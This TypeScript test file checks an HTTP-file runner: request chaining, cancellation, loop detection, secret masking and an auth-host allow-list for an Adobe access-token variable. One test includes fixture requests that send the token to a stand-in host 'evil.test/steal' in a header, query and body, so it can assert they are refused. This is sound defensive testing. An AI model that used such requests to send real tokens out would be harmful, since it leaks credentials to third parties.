import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parseHttpFile } from '../../../src/core/http/parser';
import { runHttpFile, selectBlocks, type RequestSender } from '../../../src/core/http/file-runner';
import type { RequestResult, ResolvedRequest } from '../../../src/core/http/types';
import { HttpRunner } from '../../../src/core/http/runner';
import { startEchoServer } from '../../support/echo-server';

const FILE = `@token = {{login.response.body.$.token}}

### Uses the token through a file variable
# @name profile
GET https://api.example/me
Authorization: Bearer {{token}}

### Plain
# @name plain
GET https://api.example/plain

### Login
# @name login
POST https://api.example/login

### Chains directly on profile
# @name detail
GET https://api.example/detail/{{profile.response.body.$.id}}
`;

/** Records what was sent; answers 200 with a JSON body carrying a token and an id. */
class RecordingSender implements RequestSender {
  readonly sent: ResolvedRequest[] = [];
  onSend?: (request: ResolvedRequest) => void;
  async send(request: ResolvedRequest): Promise<RequestResult> {
    this.sent.push(request);
    this.onSend?.(request);
    const body = new TextEncoder().encode(JSON.stringify({ token: `t-${this.sent.length}`, id: 40 + this.sent.length }));
    return {
      request: { method: request.method, url: request.url, headers: request.headers },
      response: { status: 200, statusText: 'OK', headers: [], body, url: request.url, timings: { firstByteMs: 1, totalMs: 1 } },
    };
  }
}

describe('file runner', () => {
  it('reports every run in order, even the last, and an error thrown while reporting fails the run', async () => {
    const file = parseHttpFile(FILE);
    const told: string[] = [];
    const runs = await runHttpFile(file, new RecordingSender(), { onResult: (run) => told.push(run.block.name!) });
    assert.deepEqual(told, ['login', 'profile', 'plain', 'detail']);
    assert.deepEqual(runs.map((r) => r.block.name), told);
    await assert.rejects(runHttpFile(file, new RecordingSender(), { onResult: () => { throw new Error('disk full'); } }), /disk full/);
  });

  it('runs every request once, a chained-on request first, and feeds results to later ones', async () => {
    const sender = new RecordingSender();
    const runs = await runHttpFile(parseHttpFile(FILE), sender);
    assert.deepEqual(runs.map((r) => r.block.name), ['login', 'profile', 'plain', 'detail']);
    assert.deepEqual(sender.sent.map((r) => r.url), ['https://api.example/login', 'https://api.example/me', 'https://api.example/plain', 'https://api.example/detail/42']);
    assert.deepEqual(sender.sent[1].headers, [['Authorization', 'Bearer t-1']]);
  });

  it('runs only the named requests plus what their chains need', async () => {
    const file = parseHttpFile(FILE);
    const sender = new RecordingSender();
    await runHttpFile(file, sender, { names: ['detail'] });
    assert.deepEqual(sender.sent.map((r) => r.url), ['https://api.example/login', 'https://api.example/me', 'https://api.example/detail/42']);
    assert.deepEqual(selectBlocks(file, ['nope', 'Plain']), { indices: [1], unknown: ['nope'] });
  });

  it('reports an unresolved variable without sending, goes on, and sends nothing after a cancel', async () => {
    const file = parseHttpFile(`# @name a\nGET https://x/{{missing}}\n\n###\n# @name b\nGET https://x/b\n\n###\n# @name c\nGET https://x/c\n\n###\nGET https://x/d\n`);
    const sender = new RecordingSender();
    const controller = new AbortController();
    sender.onSend = (r) => r.url.endsWith('/c') && controller.abort();
    const runs = await runHttpFile(file, sender, { signal: controller.signal });
    assert.deepEqual(runs.map((r) => r.result.error?.kind), ['unresolved-variable', undefined, undefined, 'aborted']);
    assert.deepEqual(runs[0].result.error?.variables, ['missing']);
    assert.deepEqual(sender.sent.map((r) => r.url), ['https://x/b', 'https://x/c']);
  });

  it('reports requests that chain on each other in a loop instead of skipping them', async () => {
    const file = parseHttpFile(`# @name a\nGET https://x/{{b.response.body.$.id}}\n\n###\n# @name b\nGET https://x/{{a.response.body.$.id}}\n`);
    const sender = new RecordingSender();
    const runs = await runHttpFile(file, sender);
    assert.equal(sender.sent.length, 0);
    assert.equal(runs.length, 2);
    assert.match(runs[0].result.error!.message, /loop/);
  });

  it('cancelling a batch mid-request closes that socket and never sends the queued requests', async (t) => {
    let arrived!: () => void;
    const stalled = new Promise<void>((resolve) => (arrived = resolve));
    const server = await startEchoServer((req) => {
      if (req.url !== '/2') return false;
      arrived();
      return true;
    });
    const runner = new HttpRunner({ env: {} });
    t.after(async () => {
      await runner.destroy();
      await server.close();
    });
    const file = parseHttpFile([1, 2, 3, 4].map((i) => `GET ${server.url}/${i}\n`).join('\n###\n'));
    const controller = new AbortController();
    const pending = runHttpFile(file, runner, { signal: controller.signal });
    await stalled;
    controller.abort();
    const runs = await pending;
    assert.deepEqual(runs.map((r) => r.result.response?.status ?? r.result.error?.kind), [200, 'aborted', 'aborted', 'aborted']);
    assert.deepEqual(server.received.map((r) => r.url), ['/1', '/2']);
    for (let i = 0; i < 50 && server.closedSockets === 0; i++) await new Promise((r) => setTimeout(r, 20));
    assert.ok(server.closedSockets >= 1);
  });
});

describe('file runner: secrets and $aio.accessToken', () => {
  it('shows the URL of a request that was not sent with its secrets masked', async () => {
    const file = parseHttpFile('GET https://x.test/cb?client_secret=p8e-in-url&id={{missing}}\n');
    const runs = await runHttpFile(file, new RecordingSender());
    assert.equal(runs[0].sent, false);
    assert.ok(!runs[0].result.request.url.includes('p8e-in-url'), runs[0].result.request.url);
    assert.match(runs[0].result.request.url, /^https:\/\/x\.test\/cb\?client_secret=/);
  });

  it('a failing token turns into that request\'s auth error and the batch goes on', async () => {
    const file = parseHttpFile('GET https://platform.adobe.io/a\nAuthorization: Bearer {{$aio.accessToken}}\n\n###\nGET https://platform.adobe.io/b\n');
    const sender = new RecordingSender();
    const aioVariable = async (): Promise<string> => {
      throw new Error('IMS refused the credential: invalid_client');
    };
    const runs = await runHttpFile(file, sender, { context: { aioVariable } });
    assert.equal(runs.length, 2);
    assert.equal(runs[0].sent, false);
    assert.equal(runs[0].result.error?.kind, 'auth');
    assert.match(runs[0].result.error!.message, /invalid_client/);
    assert.deepEqual(sender.sent.map((r) => r.url), ['https://platform.adobe.io/b']);
  });

  it('refuses {{$aio.accessToken}} for a host outside the auth allow-list, in URL, header or body', async () => {
    const file = parseHttpFile([
      'GET https://evil.test/steal\nX-T: {{$aio.accessToken}}',
      'GET https://evil.test/steal?t={{$aio.accessToken}}',
      'POST https://evil.test/steal\nContent-Type: text/plain\n\n{{$aio.accessToken}}',
      'GET http://platform.adobe.io/plain-http\nX-T: {{$aio.accessToken}}',
      'GET https://platform.adobe.io/ok\nX-T: {{$aio.accessToken}}\nX-K: {{$aio.apiKey}}',
      'GET https://evil.test/key-is-public\nX-K: {{$aio.apiKey}}',
    ].join('\n\n###\n'));
    const sender = new RecordingSender();
    const asked: string[] = [];
    const aioVariable = async (name: string): Promise<string> => {
      asked.push(name);
      return name === 'accessToken' ? 'tok-secret' : 'client-id';
    };
    const runs = await runHttpFile(file, sender, { context: { aioVariable } });
    for (const run of runs.slice(0, 4)) {
      assert.equal(run.sent, false);
      assert.equal(run.result.error?.kind, 'auth');
      assert.match(run.result.error!.message, /(evil\.test|platform\.adobe\.io).*--auth-host.*aioRequests\.authHosts/s);
    }
    assert.deepEqual(sender.sent.map((r) => r.url), ['https://platform.adobe.io/ok', 'https://evil.test/key-is-public']);
    assert.deepEqual(sender.sent[0].headers, [['X-T', 'tok-secret'], ['X-K', 'client-id']]);
    assert.ok(!sender.sent.some((r) => r.url.includes('tok-secret')));
    // A token is fetched only where the URL could not be checked first (the token sits in the URL) or is allowed.
    assert.equal(asked.filter((n) => n === 'accessToken').length, 2);
  });

  it('sends {{$aio.accessToken}} to a host the caller allowed', async () => {
    const file = parseHttpFile('GET http://127.0.0.1:9/emulator\nX-T: {{$aio.accessToken}}\n');
    const sender = new RecordingSender();
    const aioVariable = async (): Promise<string> => 'tok-secret';
    const refused = await runHttpFile(file, sender, { context: { aioVariable } });
    assert.equal(refused[0].result.error?.kind, 'auth');
    await runHttpFile(file, sender, { context: { aioVariable, authHosts: ['127.0.0.1:9'] } });
    assert.deepEqual(sender.sent.map((r) => r.headers), [[['X-T', 'tok-secret']]]);
  });
});
